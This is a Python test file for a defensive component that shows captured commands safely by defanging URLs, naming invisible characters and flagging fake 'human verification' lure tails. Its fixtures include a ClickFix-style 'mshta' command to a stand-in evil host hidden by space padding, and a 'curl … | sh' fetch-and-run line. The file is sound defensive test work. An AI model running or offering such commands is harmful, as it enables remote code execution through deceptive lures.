"""Captured text shown safely: links defanged, invisible characters named, lure tricks marked."""

from __future__ import annotations

from ui.warning.command_view import CONTROL, NEWLINE, PADDING, TAIL, TEXT, Piece, pieces, to_html

CLICKFIX = (
    "mshta https://evil.example/x" + " " * 60 + "# ✅ I am not a robot - Verification ID: 7537"
)


def test_padding_and_the_fake_tail_are_marked() -> None:
    assert pieces(CLICKFIX) == [
        Piece(TEXT, "mshta hxxps://evil[.]example/x"),
        Piece(PADDING, "[… 60 spaces …]"),
        Piece(TAIL, "# ✅ I am not a robot - Verification ID: 7537"),
    ]


def test_a_lure_tail_is_marked_without_padding_too() -> None:
    shown = pieces("cmd /c start calc # Cloudflare human verification")
    assert shown[-1] == Piece(TAIL, "# Cloudflare human verification")


def test_ordinary_comments_and_url_parts_are_not_tails() -> None:
    assert [p.kind for p in pieces("curl https://x.example/a#part | sh # install it")] == [TEXT]


def test_invisible_and_control_characters_are_named() -> None:
    assert pieces("a\u200bb\tc\u00a0d\ne\u202e\x1b") == [
        Piece(TEXT, "a"), Piece(CONTROL, "<U+200B>"), Piece(TEXT, "b"), Piece(CONTROL, "→"),
        Piece(TEXT, "c"), Piece(CONTROL, "<U+00A0>"), Piece(TEXT, "d"), Piece(NEWLINE, "⏎"),
        Piece(TEXT, "e"), Piece(CONTROL, "<U+202E>"), Piece(CONTROL, "<U+001B>"),
    ]  # fmt: skip


def test_unicode_space_padding_says_blank_characters() -> None:
    assert pieces("x" + "\u2003" * 20 + "y")[1] == Piece(PADDING, "[… 20 blank characters …]")


def test_html_escapes_markup_and_cuts_long_text() -> None:
    html = to_html("<b>bold</b>" + "z" * 3000, limit=100)
    assert "&lt;b&gt;bold&lt;/b&gt;" in html and "<b>" not in html
    assert "[… 2911 more characters …]" in html
